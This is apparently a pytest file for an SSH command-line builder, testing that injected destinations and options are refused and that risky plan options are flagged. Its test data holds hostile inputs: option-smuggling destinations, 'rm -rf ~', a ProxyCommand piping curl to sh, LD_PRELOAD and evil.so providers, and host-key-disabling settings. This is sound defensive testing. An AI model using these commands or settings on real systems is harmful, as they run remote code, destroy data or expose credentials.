"""Every ssh command line is built by a pure function: what it must and must never contain."""

from __future__ import annotations

import shlex

import pytest

from controller.errors import UsageError
from controller.ssh import argv as a

D = a.Destination("gpu1", ("Port=2222", "ProxyJump=bastion"), "/cfg/ssh_config")


@pytest.mark.parametrize(
    "dest",
    ["-oProxyCommand=touch /tmp/x", "-F/etc/passwd", "", "gpu 1", "gpu1\n", "gpu1\x00", "a\tb", "x\x9b"],
)
def test_a_destination_that_ssh_would_read_as_an_option_or_split_is_refused(dest: str) -> None:
    with pytest.raises(UsageError, match="is not an SSH destination"):
        a.check_destination(dest)


@pytest.mark.parametrize(
    "dest", ["gpu1", "root@10.0.0.7", "ubuntu@gpu-1.example.com", "ssh://u@h:2222", "u@[::1]"]
)
def test_destinations_ssh_takes_are_accepted(dest: str) -> None:
    assert a.check_destination(dest) == dest


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("Port", "give KEY=VALUE"),
        ("=2222", "give KEY=VALUE"),
        ("Port=", "give KEY=VALUE"),
        ("Po rt=1", "give KEY=VALUE"),
        ("Port=22\n-oProxyCommand=x", "give KEY=VALUE"),
        ("BatchMode=no", "sets BatchMode itself"),
        ("controlpath=/tmp/x", "sets controlpath itself"),
        ("ControlMaster=auto", "sets ControlMaster itself"),
    ],
)
def test_bad_or_owned_ssh_options_are_refused(text: str, message: str) -> None:
    with pytest.raises(UsageError, match=message):
        a.check_option(text)


def test_a_good_option_is_split_once() -> None:
    assert a.check_option("ProxyCommand=ssh -W %h:%p jump") == ("ProxyCommand", "ssh -W %h:%p jump")


def _options(argv: list[str]) -> list[str]:
    return [argv[i + 1] for i, x in enumerate(argv) if x == "-o"]


def test_every_argv_ends_options_before_the_destination_and_never_weakens_host_keys() -> None:
    built = [
        a.master(D, "/c/x.cm"),
        a.control(D, "/c/x.cm", "check"),
        a.forward(D, "/c/x.cm", "/c/x.gs", "/home/u/.boxwarden/s.sock"),
        a.command(D, ["python3", "-V"], "/c/x.cm"),
        a.command(D, ["python3", "-V"], None),
        a.tunnel(D, 41234, "/home/u/.boxwarden/s.sock"),
    ]
    for argv in built:
        assert argv[0] == "ssh" and argv[1:3] == ["-F", "/cfg/ssh_config"]
        i = argv.index("--")
        assert argv[i + 1] == "gpu1"
        opts = _options(argv[:i])
        assert opts[:2] == ["Port=2222", "ProxyJump=bastion"]  # the user's first: ssh keeps the first value
        assert "BatchMode=yes" in opts
        assert not any(o.lower().startswith(("stricthostkeychecking", "userknownhostsfile")) for o in opts)


def test_the_master_persists_in_the_background_and_unlinks_a_stale_forward_socket() -> None:
    argv = a.master(D, "/c/x.cm")
    opts = _options(argv)
    assert {"ControlMaster=yes", "ControlPath=/c/x.cm", "StreamLocalBindUnlink=yes"} <= set(opts)
    assert any(o.startswith("ControlPersist=") for o in opts)
    assert "-f" in argv and "-N" in argv and "-L" not in argv
    with_forward = a.master(D, "/c/x.cm", ("/c/x.gs", "/home/u/s.sock"))
    assert with_forward[with_forward.index("-L") + 1] == "/c/x.gs:/home/u/s.sock"
    assert with_forward.index("-L") < with_forward.index("--") and "ExitOnForwardFailure=yes" in _options(
        argv
    )


def test_the_forward_joins_a_local_and_a_remote_unix_socket() -> None:
    argv = a.forward(D, "/c/x.cm", "/c/x.gs", "/home/u/s.sock")
    assert argv[argv.index("-O") + 1] == "forward" and argv[argv.index("-L") + 1] == "/c/x.gs:/home/u/s.sock"
    cancel = a.forward(D, "/c/x.cm", "/c/x.gs", "/home/u/s.sock", cancel=True)
    assert cancel[cancel.index("-O") + 1] == "cancel"


def test_a_remote_command_is_one_quoted_word_list_that_the_box_shell_splits_back() -> None:
    evil = ["sh", "-c", 'echo "$HOME"; rm -rf ~', "sh", "a b", "$(reboot)", "it's"]
    argv = a.command(D, evil, "/c/x.cm")
    line = argv[-1]
    assert line.startswith("exec ") and shlex.split(line)[1:] == evil
    assert "ControlMaster=no" in _options(argv) and "-T" in argv


def test_the_tcp_mode_tunnel_binds_loopback_only_and_uses_no_master() -> None:
    argv = a.tunnel(D, 41234, "/home/u/s.sock")
    assert argv[argv.index("-L") + 1] == "127.0.0.1:41234:/home/u/s.sock"
    opts = _options(argv)
    assert "ControlPath=none" in opts and "ExitOnForwardFailure=yes" in opts and "-N" in argv


def test_no_config_file_means_the_users_own() -> None:
    argv = a.command(a.Destination("gpu1"), ["true"], None)
    assert "-F" not in argv


@pytest.mark.parametrize(
    "option",
    [
        "ProxyCommand=sh -c 'curl evil | sh'",
        "proxycommand=nc %h %p",
        "LocalCommand=touch /tmp/x",
        "PermitLocalCommand=yes",
        "RemoteCommand=rm -rf ~",
        "KnownHostsCommand=/bin/sh -c id",
        "PKCS11Provider=/tmp/evil.so",
        "SecurityKeyProvider=/tmp/evil.so",
        "XAuthLocation=/tmp/evil",
        "Match=exec touch /tmp/x",
        "Include=/tmp/evil_config",
        "ForwardAgent=yes",
        "ForwardX11=yes",
        "RemoteForward=8022 localhost:22",
        "SendEnv=AWS_*",
        "SetEnv=LD_PRELOAD=/tmp/x.so",
        "StrictHostKeyChecking=no",
        "StrictHostKeyChecking=accept-new",
        "UserKnownHostsFile=/dev/null",
        "GlobalKnownHostsFile=/tmp/hosts",
        "HostKeyAlias=trusted-host",
        "CheckHostIP=no",
        "VerifyHostKeyDNS=yes",
        "UpdateHostKeys=yes",
        "LocalForward=8080 localhost:80",
        "DynamicForward=1080",
        "GatewayPorts=yes",
        "ProxyUseFdpass=yes",
        "IdentityAgent=/tmp/agent.sock",
        "IdentityFile=~/.ssh/id_work",
        "CertificateFile=~/.ssh/id_work-cert.pub",
        "Tunnel=yes",
        # Second review: options no list named (Kerberos delegation, revoked keys, weak crypto).
        "GSSAPIDelegateCredentials=yes",
        "GSSAPIKeyExchange=yes",
        "RevokedHostKeys=/dev/null",
        "CASignatureAlgorithms=ssh-rsa",
        "KexAlgorithms=+diffie-hellman-group1-sha1",
        "Ciphers=+3des-cbc",
    ],
)
def test_a_plan_option_that_runs_code_sends_secrets_or_opens_ports_is_a_plan_s_ask(option: str) -> None:
    key = option.partition("=")[0]
    checked, why = a.check_plan_option(option, "plan.toml:9: [[box]] 1 ('gpu1')")
    assert checked == option and why.startswith(f"{key} ") and len(why) > len(key) + 5


@pytest.mark.parametrize(
    "option",
    [
        "Port=2222",
        "ProxyJump=b",
        "PermitLocalCommand=no",
        "ForwardAgent=no",
        "ProxyCommand=none",
        "User=u",
        "StrictHostKeyChecking=yes",
        "CheckHostIP=yes",
        "UpdateHostKeys=no",
        "IdentityAgent=none",
        "Compression=yes",
    ],
)
def test_a_plan_option_that_asks_nothing_needs_no_trust(option: str) -> None:
    assert a.check_plan_option(option, "plan.toml:9") == (option, "")


def test_a_bad_plan_option_says_where_it_is() -> None:
    with pytest.raises(UsageError, match=r"^plan.toml:9: field ssh_options: .*sets BatchMode itself"):
        a.check_plan_option("BatchMode=no", "plan.toml:9")


def test_the_command_line_takes_what_the_user_typed() -> None:
    assert a.check_option("ProxyCommand=ssh -W %h:%p jump") == ("ProxyCommand", "ssh -W %h:%p jump")
